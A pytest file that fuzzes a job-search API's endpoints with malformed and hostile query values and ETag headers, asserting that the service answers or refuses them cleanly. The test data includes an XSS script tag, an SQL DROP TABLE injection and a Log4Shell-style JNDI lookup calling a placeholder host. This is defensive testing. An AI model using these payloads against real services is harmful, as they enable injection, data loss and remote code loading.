"""Queries that nobody means well with: an answer or a refusal, never a fall."""

import json

import pytest

from tests.search_api.world import World

LIST = "/api/v1/opportunities"
TEXTS = {
    "a megabyte": "a" * 1_000_000,
    "a page": "plumber " * 900,
    "NUL": "plumb\x00er",
    "only NUL": "\x00",
    "right to left": "‮רבמולפ‬ سباك",
    "brackets": "(" * 5_000,
    "brackets that fit": "(" * 200,
    "nested quotes": '"' * 199,
    "field syntax": "title:plumber AND _id:* OR kind:[a TO z]",
    "regex": "/.*/ OR /(a+)+$/",
    "wildcards": "*?*?*?*?~9 ^99999",
    "DSL": json.dumps({"query": {"match_all": {}}, "size": 10_000}),
    "script": "<script>alert(1)</script>",
    "SQL": "'; DROP TABLE opportunities; --",
    "emoji": "👩🏽‍🔧" * 30,
    "combining": "a" + "́" * 199,
    "surrogates": "\ud800\udfff".encode("utf-8", "surrogatepass").decode("latin-1"),
    "format": "%s %n {0} ${jndi:ldap://x.example/a}",
    "one letter": "z",
    "words": " ".join(f"w{n}" for n in range(60)),
}
PARAMETERS = (
    "q",
    "near",
    "cursor",
    "employer",
    "borough",
    "kind",
    "min_hourly",
    "closing_before",
    "per_page",
    "x",
)


@pytest.mark.parametrize("name", TEXTS)
@pytest.mark.parametrize("parameter", PARAMETERS)
def test_a_hostile_value_is_answered_or_refused(london: World, name: str, parameter: str) -> None:
    response = london.client.get(LIST, query_string={parameter: TEXTS[name]})
    assert response.status_code in (200, 400, 414)
    assert "Traceback" not in response.text


@pytest.mark.parametrize(
    "query",
    ["q=%ff%fe%00", "q=%", "&&&&=&=", "q[]=a&q[x]=b", "kind=apprenticeship" + "&kind=internship" * 300, "=a", "%00=a",
     "per_page=1e2", "per_page=٣", "min_hourly=1e400", "min_hourly=1_0", "within=1e309&near=Hackney",
     "closing_before=9999-12-31", "closing_before=0001-01-01", "start_from=0001-01-01&start_to=9999-12-31",
     "posted_within_days=99999999999999999999", "level=٣", "near=0,0", "near=1e999,nan", "near=-91,181",
     "near=51.5,-0.1&within=30&sort=distance", "q=a&sort=distance&near=51.5%2C-0.1"],
    ids=lambda query: query[:40],
)  # fmt: skip
def test_a_hostile_query_string_is_answered_or_refused(london: World, query: str) -> None:
    assert london.client.get(f"{LIST}?{query}").status_code in (200, 400, 414)


ELSEWHERE = {
    "/api/v1/facets": ("q", "near", "fields"),
    "/api/v1/suggest": ("q", "limit", "x"),
    "/api/v1/changes": ("after", "limit", "fields", "q"),
    "/api/v1/export.jsonl": ("q", "fields", "cursor"),
    "/api/v1/export.csv": ("q", "near", "fields"),
    "/api/v1/export/schema": ("q",),
    "/feed.atom": ("q", "near", "kind", "x"),
    "/closing.ics": ("q", "near", "sort", "x"),
    LIST: ("fields",),
}
TAGS = ("*", '"', 'W/"', "a" * 5_000, '"\xff"', ",".join('"x"' for _ in range(1_000)))


@pytest.mark.parametrize("path", ELSEWHERE)
def test_a_hostile_value_elsewhere_is_answered_or_refused(london: World, path: str) -> None:
    for parameter in ELSEWHERE[path]:
        for name, text in TEXTS.items():
            response = london.client.get(path, query_string={parameter: text})
            assert response.status_code in (200, 400, 414), (parameter, name)
            assert response.status_code == 200 or response.content_type == "application/problem+json"
            assert "Traceback" not in response.text


@pytest.mark.parametrize("path", [*ELSEWHERE, f"{LIST}/abcdefghijkl"])
def test_a_hostile_tag_is_answered_as_another_or_as_any(london: World, path: str) -> None:
    for tag in TAGS:
        response = london.client.get(path, headers={"If-None-Match": tag})
        assert response.status_code in (200, 304, 404), tag


def test_fields_without_end_are_refused(london: World) -> None:
    for text in (
        "," * 20_000,
        ",".join(["title"] * 9_000),
        ",".join(f"x{n}" for n in range(9_000)),
        "a." * 20_000,
    ):
        response = london.client.get(LIST, query_string={"fields": text})
        assert response.status_code in (200, 400)
        assert len(response.data) < 300_000


def test_the_site_still_searches_afterwards(london: World) -> None:
    assert london.client.get(LIST).get_json()["total"] == 60
